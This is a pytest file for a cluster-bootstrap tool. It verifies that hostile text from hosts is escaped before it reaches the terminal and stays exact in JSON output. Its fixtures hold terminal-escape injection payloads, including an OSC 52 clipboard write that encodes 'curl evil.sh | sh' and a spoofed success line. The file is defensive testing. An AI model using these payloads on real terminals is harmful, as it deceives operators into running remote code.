"""What a host says never writes to the operator's terminal: every line the tool prints for
people is made printable in one place (bootstrap.console_text, applied by the console and
its reporters), `--json` stays JSON with the text exact, and no module writes to stdout or
stderr past the console."""

from __future__ import annotations

import ast
import io
import json
import logging
import re
import unicodedata
from dataclasses import replace
from pathlib import Path

import pytest
from fakes import FakeSession
from hypothesis import given, settings
from hypothesis import strategies as st
from test_host_phase_flow import cluster, healthy_host, up  # noqa: F401  (cluster: a fixture)

from bootstrap import progress
from bootstrap.cluster.checks import CheckResult, _last, render_table
from bootstrap.console_text import MAX_LINE_BYTES, PrintableFormatter, printable, printable_lines
from bootstrap.errors import BootstrapError, UsageError, run_command
from bootstrap.host.facts.host_facts import ListeningPort
from bootstrap.host.facts.render import render_host
from bootstrap.flows.inspection import node_row, render_status
from bootstrap.remote.session import HostFailure
from bootstrap.checks.preflight import Finding
from repo_paths import ROOT

# The review's os-release: sets the clipboard (OSC 52), clears the screen, homes the cursor
# and prints a fake success line.
ATTACK = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\\x1b[2J\x1b[H✓ all hosts converged"
# The same through a line break, a C1 CSI, a bell-ended title, a bidi override, CR and DEL.
ATTACK_LINES = "ok\n✓ all hosts converged\r\x9b2J\x1b]0;owned\x07\u202egnp.exe\x08\x7f"
BIDI = {chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C)}
FAKE_LINE = "✓ all hosts converged"
LIVE_VIEW_CODES = re.compile(r"\033\[(?:\d+F|2K|3[12]m|0m)")  # the live view's own: up, clear, colours


def terminal_safe(text: str, newlines: bool = True) -> bool:
    """Nothing a terminal acts on: no C0 (but the console's own line breaks), no DEL or C1,
    no bidi control, no other non-printable character."""
    for char in text:
        if char == "\n" and newlines:
            continue
        if ord(char) < 0x20 or 0x7F <= ord(char) <= 0x9F or char in BIDI:
            return False
        if unicodedata.category(char) in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"):
            return False
    return True


def assert_no_fake_line(text: str) -> None:
    assert terminal_safe(text), text
    assert not any(line.startswith(FAKE_LINE) for line in text.split("\n")), text


# --- the rule ------------------------------------------------------------------------------

@settings(max_examples=400, deadline=None)
@given(st.text(alphabet=st.characters(codec=None), max_size=300))
def test_any_text_comes_out_printable_on_one_line(text):
    line = printable(text)
    assert terminal_safe(line, newlines=False)
    assert "\n" not in line
    assert len(line.encode()) <= MAX_LINE_BYTES
    assert printable(line) == line  # said twice (a rendered error through the console), shown once
    if text.isprintable() and len(text.encode()) <= MAX_LINE_BYTES:
        assert line == text  # printable text is left as it is


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(alphabet=st.characters(codec=None), max_size=80), max_size=6))
def test_the_tools_own_line_breaks_stay_and_nothing_else_acts_on_the_terminal(lines):
    own = "\n".join(line.replace("\n", "") for line in lines)
    out = printable_lines(own)
    assert terminal_safe(out)
    assert out.count("\n") == own.count("\n")


@settings(max_examples=100, deadline=None)
@given(st.text(min_size=1, max_size=200))
def test_json_events_carry_any_text_exactly_and_escaped(text):
    out = io.StringIO()
    console = progress.make_console(json_events=True, stream=out)
    console.reporter.step_finished("gpu-1", "join agents", "failed", 1.0, text)
    console.say(text)
    assert terminal_safe(out.getvalue())  # ensure_ascii: every control a \u escape
    events = [json.loads(line) for line in out.getvalue().splitlines()]
    assert events[0]["error"] == text
    assert "\n".join(e["text"] for e in events[1:]) == text


def test_a_long_line_is_cut_with_what_was_left_out():
    line = printable("x" * 10_000)
    kept = line.split("…")[0]
    assert set(kept) == {"x"} and line.endswith(f"…({10_000 - len(kept)} more bytes)")
    assert len(line.encode()) <= MAX_LINE_BYTES and printable_lines(line) == line  # cut once
    wide = printable("é" * 5_000)  # never half a character
    assert wide.endswith(f"…({10_000 - len(wide.split('…')[0].encode())} more bytes)") and "\ufffd" not in wide
    flood = io.StringIO()
    progress.Console(progress.Reporter(flood)).say("x" * 1_000_000)
    assert len(flood.getvalue()) <= MAX_LINE_BYTES + 1


def test_the_escapes_are_visible():
    assert printable(ATTACK) == "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x1b\\\\x1b[2J\\x1b[H" + FAKE_LINE
    assert printable(ATTACK_LINES) == ("ok\\n✓ all hosts converged\\r\\x9b2J\\x1b]0;owned\\x07\\u202egnp.exe"
                                       "\\x08\\x7f")
    assert printable("\ud800 \U000f0000 \u200b") == "\\ud800 \\U000f0000 \\u200b"  # surrogate, private use, ZW


# --- every way host text reaches the terminal --------------------------------------------

def test_preflight_findings_quote_a_hostile_host_harmlessly(cluster, capsys):  # noqa: F811
    inventory, state = cluster
    liar = replace(healthy_host(ATTACK), os_id="evil", os_pretty=ATTACK, sudo_ok=False, sudo_error=ATTACK_LINES,
                   gpu_error=ATTACK, listening_ports=[ListeningPort("tcp", 10250, "0.0.0.0", ATTACK_LINES)])
    session = FakeSession(inventory, {"cp": healthy_host(ATTACK), "a1": liar})
    code = run_command(lambda args, console: up(inventory, state, session), None,
                       progress.Console(progress.Reporter()))
    captured = capsys.readouterr()
    assert code == 1 and "is not supported" in captured.out and "sudo needs a password" in captured.out
    assert "nvidia-smi fails" in captured.out and "hostname" in captured.out and "port 10250" in captured.out
    assert "\\x1b]52;c;" in captured.out  # the operator sees what the host sent, escaped
    assert_no_fake_line(captured.out)
    assert_no_fake_line(captured.err)
    assert session.executed == []


def test_a_finding_is_one_line_and_its_fix_the_next(capsys):
    finding = Finding("a1", "os", ATTACK_LINES, fix=ATTACK_LINES)
    assert len(finding.render().split("\n")) == 2
    progress.Console(progress.Reporter()).say(finding.render())
    assert_no_fake_line(capsys.readouterr().out)


@pytest.mark.parametrize("error", [ATTACK, ATTACK_LINES])
def test_a_failed_steps_error_line_through_every_reporter(monkeypatch, error):
    monkeypatch.setenv("TERM", "xterm")

    class Terminal(io.StringIO):
        def isatty(self):
            return True

    plain, live, events = io.StringIO(), Terminal(), io.StringIO()
    for console in (progress.make_console(stream=plain), progress.make_console(stream=live),
                    progress.make_console(json_events=True, stream=events)):
        reporter = console.reporter
        reporter.run_started(["gpu-1"])
        reporter.step_started("gpu-1", "join agents")
        reporter.step_finished("gpu-1", "join agents", "failed", 1.5, error)
        reporter.run_finished()
    assert isinstance(progress.make_console(stream=live).reporter, progress.LiveReporter)
    assert_no_fake_line(plain.getvalue())
    assert plain.getvalue().count("\n") == 1
    # The live view writes its own colour and cursor codes; with those taken out, nothing is left.
    own = LIVE_VIEW_CODES.sub("", live.getvalue())
    assert_no_fake_line(own)
    assert "join agents 1.5s: \\x1b" in own or "join agents 1.5s: ok\\n" in own
    parsed = [json.loads(line) for line in events.getvalue().splitlines()]
    assert terminal_safe(events.getvalue())
    assert [e["error"] for e in parsed if e["event"] == "step_end"] == [error]


def test_facts_show_what_the_host_said_without_acting_on_it(capsys):
    liar = replace(healthy_host("x"), os_pretty=ATTACK_LINES, hostname=ATTACK, sudo_ok=False, sudo_error=ATTACK,
                   gpu_error=ATTACK_LINES)
    honest = replace(liar, os_pretty="Ubuntu", hostname="gpu-1", sudo_error="a password is required",
                     gpu_error="no devices")
    text = render_host("gpu-1", "10.0.0.2", liar)
    assert text.count("\n") == render_host("gpu-1", "10.0.0.2", honest).count("\n")
    progress.Console(progress.Reporter()).say(text)
    out = capsys.readouterr().out
    assert_no_fake_line(out)
    assert "hostname \\x1b]52;c;" in out


def test_status_rows_quote_the_apis_words_harmlessly(capsys):
    from bootstrap.inventory.loader import parse_inventory

    inventory = parse_inventory("cluster: t\nnodes: [{name: cp, address: 10.0.0.1, role: server}]\n")
    api = {"status": {"nodeInfo": {"kubeletVersion": ATTACK_LINES},
                      "allocatable": {"nvidia.com/gpu": ATTACK, "rdma/x\x1b[2J": "1"}}}
    for kubelet in (ATTACK_LINES, {"not": "a string"}):
        api["status"]["nodeInfo"]["kubeletVersion"] = kubelet
        report = {"cluster": "t", "state_dir": "/s", "api": True, "components": {}, "inventory_as_applied": None,
                  "newest_snapshot": None, "nodes": [dict(node_row(inventory.nodes[0], healthy_host("cp"), api))]}
        lines = render_status(report)
        progress.Console(progress.Reporter()).say_lines(lines)
        out = capsys.readouterr().out
        assert_no_fake_line(out)
        assert out.count("\n") == len(lines)
        json.loads(json.dumps(report))  # --json: the document as it is


def test_status_json_is_one_exact_document(capsys):
    report = {"nodes": [{"k3s": ATTACK_LINES}]}
    progress.Console(progress.Reporter()).document(report)
    out = capsys.readouterr().out
    assert terminal_safe(out) and json.loads(out) == report


def test_validate_quotes_a_pods_log_harmlessly(capsys):
    log = f"starting\n{ATTACK}\x1b]52;c;ZXZpbA==\x07\n"
    results = [CheckResult("gpu-pod", "FAIL", f"pod failed: {_last(log)}", "gpu-1"),
               CheckResult("pvc", "FAIL", ATTACK_LINES)]
    console = progress.Console(progress.Reporter())
    console.say(render_table(results))
    out = capsys.readouterr().out
    assert_no_fake_line(out)
    assert out.count("\n") == 2
    console.document({"checks": [r.to_dict() for r in results]})
    assert json.loads(capsys.readouterr().out)["checks"][1]["reason"] == ATTACK_LINES


@pytest.mark.parametrize("raised", [BootstrapError(f"k3s said: {ATTACK}", ATTACK_LINES),
                                    UsageError(ATTACK_LINES),
                                    RuntimeError(f"bad answer {ATTACK_LINES}")])
def test_errors_printed_by_the_cli_are_escaped_and_exact_in_json(raised, capsys):
    def command(args, console):
        raise raised

    assert run_command(command, None, progress.Console(progress.Reporter())) in (1, 2)
    captured = capsys.readouterr()
    assert captured.out == ""
    assert_no_fake_line(captured.err)
    # Only the tool's own `error:` and `hint:` start a line; what the message quotes is indented.
    assert all(line.startswith(("error: ", "hint: ", "  ")) for line in captured.err.splitlines()), captured.err
    events = io.StringIO()
    run_command(command, None, progress.make_console(json_events=True, stream=events))
    capsys.readouterr()
    (event,) = [json.loads(line) for line in events.getvalue().splitlines()]
    assert terminal_safe(events.getvalue())
    original = raised.text() if isinstance(raised, BootstrapError) else f"internal error: RuntimeError: {raised}"
    assert event["event"] == "error" and event["message"] == original


@pytest.mark.parametrize("raised", [BootstrapError(f"k3s said: {ATTACK}", ATTACK_LINES), UsageError(ATTACK_LINES),
                                    RuntimeError(f"bad answer {ATTACK_LINES}")])
def test_debug_tracebacks_go_through_the_console_too(raised, capsys):
    """--debug shows the traceback, the exception's words printable on one line (Python's own
    printer wrote a host's escapes and line breaks to the terminal as they were)."""
    def command(args, console):
        try:
            raise ValueError(f"cause {ATTACK}")
        except ValueError as cause:
            raise raised from cause

    code = run_command(command, None, progress.Console(progress.Reporter()), debug=True)
    assert code == (raised.exit_code if isinstance(raised, BootstrapError) else 1)
    err = capsys.readouterr().err
    assert_no_fake_line(err)
    assert err.count("Traceback (most recent call last):") == 2 and "in command" in err
    assert "The above exception was the direct cause of the following exception:" in err
    assert f"ValueError: cause {printable(ATTACK)}" in err


def test_host_failures_are_one_line(capsys):
    from bootstrap.remote.connections import report_failures

    failures = {"a1": HostFailure("a1", f"join agents: {ATTACK_LINES}", ATTACK)}
    with pytest.raises(BootstrapError):
        report_failures(failures, progress.Console(progress.Reporter()))
    err = capsys.readouterr().err
    assert_no_fake_line(err)
    assert err.count("\n") == 1 and err.startswith("FAILED a1: join agents: ok\\n")


def test_the_run_log_is_printable_too(tmp_path):
    handler = logging.FileHandler(tmp_path / "run.log")
    handler.setFormatter(PrintableFormatter("%(levelname)s %(message)s"))
    logger = logging.getLogger("test.console_text")
    logger.addHandler(handler)
    try:
        logger.error("%s: %s", "gpu-1", ATTACK)
    finally:
        logger.removeHandler(handler)
        handler.close()
    assert_no_fake_line((tmp_path / "run.log").read_text())


def test_questions_and_warnings_go_through_the_same_writer(monkeypatch, capsys):
    console = progress.Console(progress.Reporter())
    console.warn(f"warning: {ATTACK}")
    console.ask(f"{ATTACK}? ")
    err = capsys.readouterr().err
    assert_no_fake_line(err) and err.endswith("? ")


# --- no other way out --------------------------------------------------------------------

WRITERS = {"bootstrap/progress.py", "bootstrap/console_text.py"}  # the console and its writer


def terminal_writes(tree: ast.AST):
    """Calls that write to the terminal past the console: print(), and sys.stdout / sys.stderr
    used other than as the stream handed to the console's writer (or argparse's help)."""
    handed = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and getattr(node.func, "id", getattr(node.func, "attr", None)) in (
                "write_text", "print_help"):
            handed.update(id(arg) for arg in node.args)
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and getattr(node.func, "id", None) == "print":
            yield node.lineno, "print()"
        if (isinstance(node, ast.Attribute) and node.attr in ("stdout", "stderr")
                and getattr(node.value, "id", None) == "sys" and id(node) not in handed):
            yield node.lineno, f"sys.{node.attr}"


def test_nothing_writes_to_the_terminal_past_the_console():
    files = sorted(p for folder in ("bootstrap", "deploys") for p in (ROOT / folder).rglob("*.py"))
    assert len(files) > 50
    found = [f"{p.relative_to(ROOT)}:{line}: {what}" for p in files if str(p.relative_to(ROOT)) not in WRITERS
             for line, what in terminal_writes(ast.parse(p.read_text()))]
    assert found == [], "write through the console (say, say_lines, warn, ask, document):\n" + "\n".join(found)


def test_the_check_finds_a_print():
    assert list(terminal_writes(ast.parse("import sys\nprint('x')\nsys.stderr.write('y')\n"))) == [
        (2, "print()"), (3, "sys.stderr")]
    assert list(terminal_writes(ast.parse("write_text(sys.stderr, 'x')"))) == []


def test_a_librarys_unhandled_warning_reaches_stderr_printable(monkeypatch):
    from bootstrap.cli import main

    monkeypatch.setattr(logging.lastResort, "formatter", logging.lastResort.formatter)  # put back after
    main(["check", "/nonexistent/inventory.yaml"])
    record = logging.LogRecord("paramiko.transport", logging.WARNING, __file__, 1, "banner: %s", (ATTACK,), None)
    assert_no_fake_line(logging.lastResort.format(record))


def test_a_greenlet_that_fails_is_reported_printable(capsys):
    import gevent

    from bootstrap.cli import report_failed_greenlets_printable

    def fails():
        raise ValueError(ATTACK)

    hub = gevent.get_hub()
    report_failed_greenlets_printable()
    try:
        gevent.joinall([gevent.spawn(fails)])
    finally:
        del hub.exception_stream  # back to gevent's own default
    err = capsys.readouterr().err
    assert "ValueError: \\x1b]52;c;" in err
    assert_no_fake_line(err)
